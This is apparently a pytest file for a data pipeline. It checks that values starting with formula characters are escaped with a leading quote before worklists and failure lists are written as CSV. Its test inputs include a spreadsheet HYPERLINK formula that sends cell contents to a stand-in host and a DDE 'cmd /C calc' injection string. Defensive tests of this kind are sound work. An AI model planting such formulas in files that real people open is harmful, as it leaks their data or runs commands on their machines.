"""What a spreadsheet would take for a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipelines.review import write_worklist
from pipelines.spreadsheet import cell, cells
from pipelines.tracking_artifacts import _write_csv
from tests.pipelines.judged import judged_output

EVIL = '=HYPERLINK("http://x?"&A1,"open")'


@pytest.mark.parametrize("text", [EVIL, "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"])
def test_formulas_become_text(text: str) -> None:
    """Catches a key or a message of a stranger's file that runs where the list is opened."""
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value", ["", "a=b", "photo-1.jpg", " =1", "'=1", -3, -0.5, None, True])
def test_other_text_and_numbers_stay(value: object) -> None:
    """Catches keys that no longer match the dataset's, and numbers that turned into text."""
    assert cell(value) is value


def test_a_table_keeps_its_numbers_types_and_gaps() -> None:
    """Catches columns of another type, and a missing text that turned into one."""
    table = pa.table({"key": pa.array([EVIL, None, "a"]), "x": pa.array([-1, 2, None], pa.int32()),
                      "long": pa.array(["-", "b", "@"], pa.large_string())})
    done = cells(table)
    assert done.schema.equals(table.schema)
    assert done.to_pydict() == {"key": ["'" + EVIL, None, "a"], "x": [-1, 2, None], "long": ["'-", "b", "'@"]}


def test_the_worklist_and_the_failures_hold_no_formula(tmp_path: Path) -> None:
    """Catches a file for spreadsheets that is written past the rule."""
    out = judged_output(tmp_path, ["halo1", "bad1"])
    rows = pq.read_table(out / "00000.parquet")
    named = pa.array([f"={key}" for key in rows.column("key").to_pylist()])
    pq.write_table(rows.set_column(rows.schema.get_field_index("key"), "key", named), out / "00000.parquet")
    assert write_worklist(str(out)) == 1
    with (out / "review" / "worklist.csv").open(newline="") as file:
        assert [row["key"] for row in csv.DictReader(file)] == ["'=halo1.png"]
    _write_csv(out / "00000.parquet", tmp_path / "failures.csv")
    with (tmp_path / "failures.csv").open(newline="") as file:
        assert sorted(row["key"] for row in csv.DictReader(file)) == ["'=bad1.png", "'=halo1.png"]
